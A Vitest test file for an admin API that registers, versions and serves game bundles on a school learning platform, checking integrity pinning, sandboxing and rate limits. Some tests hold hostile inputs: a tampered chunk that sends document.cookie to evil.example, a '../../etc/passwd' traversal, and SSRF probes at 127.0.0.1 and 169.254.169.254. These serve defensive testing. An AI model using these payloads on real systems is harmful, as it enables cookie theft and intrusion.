import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { classWorld } from '../../../test/class-world.ts';
import { gameManifest, startFakeBundleServer } from '../../../test/fake-game-bundle.ts';
import { appendBlock } from '../../../test/lesson-blocks.ts';
import { createTestApp, type ApiPath, type Method } from '../../../test/test-app.ts';
import { createApiDeps, createSql } from '../../index.ts';
import { createLogger } from '../../logger.ts';

type T = Awaited<ReturnType<typeof createTestApp>>;
type User = Awaited<ReturnType<T['signUp']>>;
let t: T;
let cdn: Awaited<ReturnType<typeof startFakeBundleServer>>;
beforeAll(async () => {
  t = await createTestApp();
  cdn = await startFakeBundleServer();
  for (const v of ['v1', 'v2']) cdn.bundles.set(v, { manifest: gameManifest('game_hauptstaedte'), entry: `/* hauptstaedte ${v} */`, cors: true });
});
afterAll(async () => {
  await cdn.close();
  await t.close();
});

const call = <M extends Method, P extends ApiPath>(method: M, path: P, who: User | null, body?: unknown) =>
  t.call(method, path, { token: who ? who.session.access_token : undefined, body });
const sri = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;

async function admin() {
  const u = await t.signUp('teacher', 'Ada', 'Admin');
  await t.sql`update user_profiles set role = 'admin' where id = ${u.user.id}`;
  return u;
}

const NEW_GAME = {
  key: 'hauptstaedte', title: 'Hauptstädte Europas', provider: 'Team Geografie', quiz_id: 'HAUPTSTAEDTE', result_keys: ['Punkte', 'Zeit', 'Richtig'],
};

describe('/api/admin/games', () => {
  it('permission matrix: admin only; failure reports from anyone', async () => {
    const boss = await admin();
    const teacher = await t.signUp('teacher');
    const student = await t.signUp('student');
    const some = '00000000-0000-4000-8000-000000000000';
    const routes: [Method, ApiPath, unknown?][] = [
      ['GET', '/api/admin/games'],
      ['POST', '/api/admin/games/inspect', { manifest_url: cdn.url('v1') }],
      ['POST', '/api/admin/games', { ...NEW_GAME, key: 'matrix', manifest_url: cdn.url('v1') }],
      ['PATCH', '/api/admin/games/eu-flaggen', { enabled: true }],
      ['POST', '/api/admin/games/eu-flaggen/versions', { manifest_url: cdn.url('v1'), label: '2' }],
      ['POST', `/api/admin/games/eu-flaggen/versions/${some}/activate`],
    ];
    for (const [method, path, body] of routes) {
      for (const [who, status] of [[teacher, 403], [student, 403], [null, 401]] as const) {
        expect((await call(method, path, who, body)).status, `${method} ${path}`).toBe(status);
      }
    }
    expect((await call('GET', '/api/admin/games', boss)).status).toBe(200);
    expect((await call('POST', '/api/admin/games/inspect', boss, { manifest_url: cdn.url('v1') })).status).toBe(200);
    expect((await call('PATCH', '/api/admin/games/eu-flaggen', boss, { enabled: true })).status).toBe(200);
    // eu-flaggen's bundle has another federation name: refused with the reason.
    const wrong = await call('POST', '/api/admin/games/eu-flaggen/versions', boss, { manifest_url: cdn.url('v1'), label: '2' });
    expect([wrong.status, wrong.error?.code]).toEqual([422, 'GAME_BUNDLE_INVALID']);
    expect((await call('POST', `/api/admin/games/eu-flaggen/versions/${some}/activate`, boss)).error?.code).toBe('GAME_VERSION_NOT_FOUND');
    expect((await call('POST', '/api/games/failures', null, { game_key: 'eu-flaggen', kind: 'load' })).status).toBe(204);
    expect((await call('POST', '/api/games/failures', student, { game_key: 'eu-flaggen', kind: 'mount' })).status).toBe(204);
  });

  it('lists the built-in games as rows with their active version', async () => {
    const res = await call('GET', '/api/admin/games', await admin());
    const keys = res.body.games.map((g) => g.key);
    expect(keys).toEqual(expect.arrayContaining(['eu-flaggen', 'schweiz-wappen', 'eu-laender', 'schweiz-kantone', 'weltkarte', 'bundesrat', 'wirtschaftskreislauf', 'matching', 'multiple-choice']));
    const flags = res.body.games.find((g) => g.key === 'eu-flaggen')!;
    expect(flags).toMatchObject({ built_in: true, quiz_id: 'EU_FLAGGEN', versions: [{ active: true, entry_url: '/bundles/games/eu-flaggen/remoteEntry.js' }] });
  });

  it("'Prüfen' reports what it found with the entry's hash, and refuses with a German reason", async () => {
    const boss = await admin();
    const ok = await call('POST', '/api/admin/games/inspect', boss, { manifest_url: cdn.url('v1') });
    expect(ok.body).toMatchObject({
      federation_name: 'game_hauptstaedte', entry_url: cdn.url('v1', 'remoteEntry.js'), contract_version: 1, react_range: '^19.0.0', integrity: sri('/* hauptstaedte v1 */'),
    });
    // A bundle built without the SDK names no contract version: taken as version 1.
    cdn.bundles.set('nocontract', { manifest: gameManifest('game_x', { contractVersion: null }), entry: 'x', cors: true });
    expect((await call('POST', '/api/admin/games/inspect', boss, { manifest_url: cdn.url('nocontract') })).body.contract_version).toBe(1);
    // Given the remoteEntry.js itself, the manifest beside it is read.
    expect((await call('POST', '/api/admin/games/inspect', boss, { manifest_url: cdn.url('v1', 'remoteEntry.js') })).body.integrity).toBe(sri('/* hauptstaedte v1 */'));
    const cases: [string, object | null, string, RegExp][] = [
      ['gone', null, 'GAME_BUNDLE_UNREACHABLE', /nicht erreichbar|Status 404/],
      ['nocors', { cors: false }, 'GAME_BUNDLE_NO_CORS', /CORS/],
      ['nogame', { manifest: gameManifest('game_x', { exposes: './App' }) }, 'GAME_BUNDLE_NO_GAME', /'\.\/Game'/],
      ['react18', { manifest: gameManifest('game_x', { react: '^18.2.0' }) }, 'GAME_BUNDLE_REACT_MISMATCH', /React \^18\.2\.0/],
      ['noreact', { manifest: gameManifest('game_x', { react: null }) }, 'GAME_BUNDLE_REACT_MISMATCH', /teilt React nicht/],
      ['contract9', { manifest: gameManifest('game_x', { contractVersion: 9 }) }, 'GAME_CONTRACT_UNSUPPORTED', /für die Vertragsversion 9 gebaut; die Plattform unterstützt 1/],
      ['contract0', { manifest: gameManifest('game_x', { contractVersion: 0 }) }, 'GAME_CONTRACT_UNSUPPORTED', /Vertragsversion 0/],
    ];
    for (const [version, over, code, reason] of cases) {
      if (over) cdn.bundles.set(version, { manifest: gameManifest('game_x'), entry: 'x', cors: true, ...over });
      const res = await call('POST', '/api/admin/games/inspect', boss, { manifest_url: cdn.url(version) });
      expect([res.status, res.error?.code], version).toEqual([422, code]);
      expect(res.error?.message, version).toMatch(reason);
    }
    expect((await call('POST', '/api/admin/games/inspect', boss, { manifest_url: 'ftp://x' })).status).toBe(400);
  });

  it('adds a game that lessons use, with stored unverified results; versions, rollback, disable', async () => {
    const boss = await admin();
    const w = await classWorld(t);
    const added = await call('POST', '/api/admin/games', boss, { ...NEW_GAME, manifest_url: cdn.url('v1'), label: '1.0.0' });
    expect(added.status, JSON.stringify(added.body)).toBe(201);
    const v1 = added.body.versions[0]!;
    expect(v1).toMatchObject({ label: '1.0.0', active: true, integrity: sri('/* hauptstaedte v1 */'), created_by: 'Ada Admin' });
    expect((await call('POST', '/api/admin/games', boss, { ...NEW_GAME, manifest_url: cdn.url('v1') })).error?.code).toBe('GAME_EXISTS');

    // The registry's view for the shell: in the manifest with its hash, served from the platform's own copy; the
    // studio's origin is no script source.
    const manifest = await t.deps.games.manifestGames();
    expect(manifest.hauptstaedte).toMatchObject({ entry: `/bundles/registry/${v1.id}/remoteEntry.js`, integrity: v1.integrity, provider: 'Team Geografie', lessons: true, quizId: 'HAUPTSTAEDTE' });
    expect((await t.deps.games.origins()).bundle).not.toContain(cdn.base);

    // A lesson holds it; a student plays it; the result is stored unverified (no replay for another team's game).
    const block = await appendBlock(call, w.owner, w.visible.id, { type: 'game', content: { gameId: 'hauptstaedte' } });
    expect(block.status, JSON.stringify(block.body)).toBe(201);
    expect(block.body.block.content).toMatchObject({ gameType: 'custom', gameName: 'Hauptstädte Europas', quizId: 'HAUPTSTAEDTE' });
    const rounds = `/api/student/classes/${w.cls.id}/blocks/${block.body.block_id}/game-rounds` as const;
    const results = `/api/student/classes/${w.cls.id}/blocks/${block.body.block_id}/game-results` as const;
    const play = async (result: object) => {
      const round = await call('POST', rounds, w.enrolled);
      expect(round.status).toBe(201);
      await t.sql`update game_rounds set started_at = now() - interval '1 hour' where id = ${round.body.round_id}`;
      return call('POST', results, w.enrolled, { roundId: round.body.round_id, ...result });
    };
    const result = { quizId: 'HAUPTSTAEDTE', values: { Punkte: 4, Richtig: 4 }, score: { raw: 4, max: 10 }, success: false, durationSeconds: 30 };
    const stored = await play(result);
    expect(stored.status, JSON.stringify(stored.body)).toBe(201);
    expect(stored.body).toMatchObject({ quiz_id: 'HAUPTSTAEDTE', score: 4, verified: false });
    expect((await play({ ...result, quizId: 'EU_FLAGGEN' })).error).toMatchObject({ code: 'GAME_RESULT_IMPLAUSIBLE', message: expect.stringMatching(/quizId must be HAUPTSTAEDTE/) });
    expect((await play({ ...result, values: { Fehler: 2 } })).error?.message).toMatch(/Fehler is not a result key/);

    // A second version, not active until 'Aktivieren'; then rollback by activating the first.
    const second = await call('POST', '/api/admin/games/hauptstaedte/versions', boss, { manifest_url: cdn.url('v2'), label: '1.1.0' });
    expect(second.status, JSON.stringify(second.body)).toBe(201);
    const v2 = second.body.versions.find((v) => v.label === '1.1.0')!;
    expect(v2).toMatchObject({ active: false, integrity: sri('/* hauptstaedte v2 */') });
    expect((await call('POST', '/api/admin/games/hauptstaedte/versions', boss, { manifest_url: cdn.url('v2'), label: '1.1.0' })).error?.code).toBe('GAME_VERSION_EXISTS');
    await call('POST', `/api/admin/games/hauptstaedte/versions/${v2.id}/activate`, boss);
    expect((await t.deps.games.manifestGames()).hauptstaedte).toMatchObject({ entry: `/bundles/registry/${v2.id}/remoteEntry.js`, version: v2.id });
    const rolledBack = await call('POST', `/api/admin/games/hauptstaedte/versions/${v1.id}/activate`, boss);
    expect(rolledBack.body.versions.filter((v) => v.active).map((v) => v.id)).toEqual([v1.id]);
    expect((await t.deps.games.manifestGames()).hauptstaedte?.entry).toBe(`/bundles/registry/${v1.id}/remoteEntry.js`);

    // Failures reported by pages count per version on the admin list.
    await call('POST', '/api/games/failures', w.enrolled, { game_key: 'hauptstaedte', version: v1.id, kind: 'mount' });
    await call('POST', '/api/games/failures', null, { game_key: 'hauptstaedte', version: v1.id, kind: 'integrity' });
    const listed = (await call('GET', '/api/admin/games', boss)).body.games.find((g) => g.key === 'hauptstaedte')!;
    expect(listed.versions.find((v) => v.id === v1.id)!.failures_24h).toEqual({ load: 0, mount: 1, integrity: 1 });

    // 'Deaktivieren': gone from the manifest (and so from pickers); its block starts no rounds.
    expect((await call('PATCH', '/api/admin/games/hauptstaedte', boss, { enabled: false })).body.enabled).toBe(false);
    expect((await t.deps.games.manifestGames()).hauptstaedte).toMatchObject({ disabled: true, entry: 'about:blank' });
    expect((await t.deps.games.origins()).bundle).not.toContain(cdn.base);
    expect((await call('POST', rounds, w.enrolled)).error?.code).toBe('GAME_DISABLED');
    await call('PATCH', '/api/admin/games/hauptstaedte', boss, { enabled: true });
    expect((await call('POST', rounds, w.enrolled)).status).toBe(201);
  });

  it("a trusted game's every file is taken into the platform's keeping: a chunk changed on the studio's CDN is never served", async () => {
    const boss = await admin();
    const entry = `import('./assets/game-a1.js');`;
    const chunk = `const flag = new URL('../img/flag-ch.svg', import.meta.url); import('./lazy-b2.js'); export default flag;`;
    const files = {
      'assets/game-a1.js': chunk, 'assets/lazy-b2.js': 'export const lazy = 1;', 'img/flag-ch.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
      'assets/listed-c3.js': 'export const listed = 1;',
    };
    const manifest = { ...gameManifest('game_alpenpaesse'), exposes: [{ name: 'Game', path: './Game', assets: { js: { sync: ['assets/listed-c3.js'], async: [] }, css: { sync: [], async: [] } } }] };
    cdn.bundles.set('alp', { manifest, entry, cors: true, files });
    const added = await call('POST', '/api/admin/games', boss, { ...NEW_GAME, key: 'alpenpaesse', quiz_id: 'ALPENPAESSE', manifest_url: cdn.url('alp'), label: '1.0.0' });
    expect(added.status, JSON.stringify(added.body)).toBe(201);
    const version = added.body.versions[0]!.id;
    const served = (path: string) => t.app.request(`/bundles/registry/${version}/${path}`);

    // Entry, listed asset, imported chunk, the chunk's lazy import and its image: all served from the platform.
    expect((await t.deps.games.manifestGames()).alpenpaesse?.entry).toBe(`/bundles/registry/${version}/remoteEntry.js`);
    for (const [path, body] of [['remoteEntry.js', entry], ...Object.entries(files)] as const) {
      const res = await served(path);
      expect(res.status, path).toBe(200);
      expect(await res.text(), path).toBe(body);
      expect(res.headers.get('cache-control')).toContain('immutable');
      expect(res.headers.get('access-control-allow-origin')).toBe('*');
    }
    expect((await served('assets/game-a1.js')).headers.get('content-type')).toMatch(/^text\/javascript/);
    const svg = await served('img/flag-ch.svg');
    expect(svg.headers.get('content-type')).toBe('image/svg+xml');
    expect(svg.headers.get('content-security-policy')).toContain('sandbox');
    expect((await served('assets/unknown.js')).status).toBe(404);
    expect((await served('../../etc/passwd')).status).toBe(404);

    // The studio changes a chunk (and the entry) after registration: the platform keeps serving the checked bytes,
    // and the studio's origin is no script source, so a browser would not run the changed chunk from there either.
    cdn.bundles.set('alp', { manifest, entry: `${entry} /* evil */`, cors: true, files: { ...files, 'assets/game-a1.js': 'fetch("https://evil.example/?" + document.cookie)' } });
    expect(await (await served('assets/game-a1.js')).text()).toBe(chunk);
    expect(await (await served('remoteEntry.js')).text()).toBe(entry);
    expect((await t.deps.games.origins()).bundle).not.toContain(cdn.base);
    const row = await t.sql<{ integrity: string }[]>`select integrity from game_versions where id = ${version}`;
    expect(row[0]!.integrity).toBe(sri(entry));

    // A listed file missing on the CDN: the registration is refused with the German reason, nothing stored.
    cdn.bundles.set('broken', { manifest, entry, cors: true, files: { ...files, 'assets/listed-c3.js': undefined as unknown as string } });
    const refused = await call('POST', '/api/admin/games', boss, { ...NEW_GAME, key: 'kaputt', quiz_id: 'KAPUTT', manifest_url: cdn.url('broken'), label: '1' });
    expect(refused.status).toBe(422);
    expect(refused.error).toMatchObject({ code: 'GAME_BUNDLE_UNREACHABLE', message: expect.stringContaining('assets/listed-c3.js') });
    expect(await t.sql`select key from games where key = 'kaputt'`).toHaveLength(0);
  });

  it("the quiz id is the build's: 'Prüfen' reports it, a form or a new version with another one is refused", async () => {
    const boss = await admin();
    const built = (quizId: string) => ({ ...gameManifest('game_quizbau'), lernplattform: { contractVersion: 1, title: 'Quizbau', quizId } });
    cdn.bundles.set('quiz1', { manifest: built('QUIZBAU'), entry: '/* quiz 1 */', cors: true });
    cdn.bundles.set('quiz2', { manifest: built('ANDERS'), entry: '/* quiz 2 */', cors: true });
    const inspected = await call('POST', '/api/admin/games/inspect', boss, { manifest_url: cdn.url('quiz1') });
    expect(inspected.body).toMatchObject({ quiz_id: 'QUIZBAU' });

    const wrong = await call('POST', '/api/admin/games', boss, { ...NEW_GAME, key: 'quizbau', quiz_id: 'QUIZBAU_FORM', manifest_url: cdn.url('quiz1'), label: '1' });
    expect(wrong.status).toBe(422);
    expect(wrong.error).toMatchObject({ code: 'GAME_BUNDLE_INVALID', message: expect.stringContaining('«QUIZBAU»') });
    expect(await t.sql`select key from games where key = 'quizbau'`).toHaveLength(0);

    const added = await call('POST', '/api/admin/games', boss, { ...NEW_GAME, key: 'quizbau', quiz_id: 'QUIZBAU', manifest_url: cdn.url('quiz1'), label: '1' });
    expect(added.status, JSON.stringify(added.body)).toBe(201);
    expect(added.body).toMatchObject({ quiz_id: 'QUIZBAU' });
    const other = await call('POST', '/api/admin/games/quizbau/versions', boss, { manifest_url: cdn.url('quiz2'), label: '2' });
    expect(other.status).toBe(422);
    expect(other.error?.message).toContain('«ANDERS»');
  });

  it('versions registered before builds were taken in are taken in at start, unless their entry changed since', async () => {
    const entry = `import('./assets/early-1.js');`;
    cdn.bundles.set('early', { manifest: gameManifest('game_frueh'), entry, cors: true, files: { 'assets/early-1.js': 'export default 1;' } });
    cdn.bundles.set('moved', { manifest: gameManifest('game_verschoben'), entry: '/* changed since */', cors: true });
    for (const [key, name, version, integrity] of [['frueh', 'game_frueh', 'early', sri(entry)], ['verschoben', 'game_verschoben', 'moved', sri('/* as checked */')]] as const) {
      await t.sql`insert into games (key, title, provider, federation_name, quiz_id, result_keys) values (${key}, ${key}, 'Team', ${name}, ${key.toUpperCase()}, ${['Punkte']})`;
      await t.sql`insert into game_versions (game_key, label, entry_url, integrity, active) values (${key}, '1', ${cdn.url(version, 'remoteEntry.js')}, ${integrity}, true)`;
    }
    t.deps.games.invalidate();
    expect((await t.deps.games.manifestGames()).frueh?.entry).toBe(cdn.url('early', 'remoteEntry.js'));
    expect(await t.deps.games.takeInEarlierVersions()).toBe(1);
    const [early] = await t.sql<{ id: string }[]>`select id from game_versions where game_key = 'frueh'`;
    expect((await t.deps.games.manifestGames()).frueh?.entry).toBe(`/bundles/registry/${early!.id}/remoteEntry.js`);
    expect(await (await t.app.request(`/bundles/registry/${early!.id}/assets/early-1.js`)).text()).toBe('export default 1;');
    // Its entry changed since registration: left as it was (the shell's integrity check refuses it).
    expect((await t.deps.games.manifestGames()).verschoben?.entry).toBe(cdn.url('moved', 'remoteEntry.js'));
    expect(await t.deps.games.takeInEarlierVersions()).toBe(0);
  });

  it("'Prüfen' cannot be turned inward: internal addresses, directly or by a redirect, are never fetched", async () => {
    // An internal service on this machine (an admin panel, the database's neighbour) that counts what reaches it.
    let hits = 0;
    const internal = createServer((_req, res) => { hits++; res.writeHead(200, { 'content-type': 'application/json', 'access-control-allow-origin': '*' }).end('{}'); });
    const redirector = createServer((_req, res) => { res.writeHead(302, { location: `http://127.0.0.1:${(internal.address() as AddressInfo).port}/mf-manifest.json` }).end(); });
    await Promise.all([internal, redirector].map((s) => new Promise<void>((r) => s.listen(0, '127.0.0.1', r))));
    const port = (s: typeof internal) => (s.address() as AddressInfo).port;
    // The operator allows the studio's CDN and the redirecting host only.
    const strict = await createTestApp({ OUTBOUND_ALLOW_HOSTS: `${new URL(cdn.base).host},127.0.0.1:${port(redirector)}`, OUTBOUND_TIMEOUT_MS: '500' });
    try {
      const boss = await strict.signUp('teacher', 'Ada', 'Admin');
      await strict.sql`update user_profiles set role = 'admin' where id = ${boss.user.id}`;
      for (const url of [`http://127.0.0.1:${port(internal)}/mf-manifest.json`, `http://127.0.0.1:${port(redirector)}/mf-manifest.json`, 'http://169.254.169.254/latest/mf-manifest.json']) {
        const res = await strict.call('POST', '/api/admin/games/inspect', { token: boss.session.access_token, body: { manifest_url: url } });
        expect(res.status, url).toBe(422);
        expect(res.error?.code).toBe('GAME_BUNDLE_UNREACHABLE');
      }
      expect(hits).toBe(0);
      // The allowed CDN still works.
      expect((await strict.call('POST', '/api/admin/games/inspect', { token: boss.session.access_token, body: { manifest_url: cdn.url('v1') } })).status).toBe(200);
    } finally {
      await strict.close();
      await Promise.all([internal, redirector].map((s) => new Promise((r) => s.close(r))));
    }
  });

  it('a sandboxed game needs its own page on its own origin; its origin is a frame source only', async () => {
    const boss = await admin();
    cdn.bundles.set('sb', { manifest: gameManifest('game_sandkasten'), entry: '/* sandkasten */', cors: true });
    const base = { ...NEW_GAME, key: 'sandkasten', title: 'Sandkasten', quiz_id: 'SANDKASTEN', trust_level: 'sandboxed', manifest_url: cdn.url('sb') };
    expect((await call('POST', '/api/admin/games', boss, base)).error?.code).toBe('GAME_EMBED_MISSING');
    const embed = `http://localhost:${new URL(cdn.base).port}/sb/index.html`;
    const res = await call('POST', '/api/admin/games', boss, { ...base, embed_url: embed });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect((await t.deps.games.manifestGames()).sandkasten).toMatchObject({ trust: 'sandboxed', embed });
    const origins = await t.deps.games.origins();
    expect(origins.frame).toContain(new URL(embed).origin);
    expect(origins.bundle).not.toContain(new URL(embed).origin);
  });

  it('a change reaches another API instance within seconds (NOTIFY)', async () => {
    const other = createApiDeps(t.env, t.databaseUrl, { sql: createSql(t.databaseUrl, { max: 2 }), log: createLogger('silent') });
    try {
      expect(await other.games.get('weltkarte')).toMatchObject({ enabled: true });
      const boss = await admin();
      await call('PATCH', '/api/admin/games/weltkarte', boss, { enabled: false });
      const started = Date.now();
      while ((await other.games.get('weltkarte'))?.enabled !== false && Date.now() - started < 5_000) await new Promise((r) => setTimeout(r, 50));
      expect((await other.games.get('weltkarte'))?.enabled).toBe(false);
      // Heard by NOTIFY, well before the cache's own expiry (15 s).
      expect(Date.now() - started).toBeLessThan(3_000);
      await call('PATCH', '/api/admin/games/weltkarte', boss, { enabled: true });
    } finally {
      await other.sql.end();
    }
  });

  it('failure reports are rate-limited per source', async () => {
    let status = 0;
    for (let i = 0; i < 61 && status !== 429; i++) status = (await call('POST', '/api/games/failures', null, { game_key: 'bundesrat', kind: 'load' })).status;
    expect(status).toBe(429);
  });
});
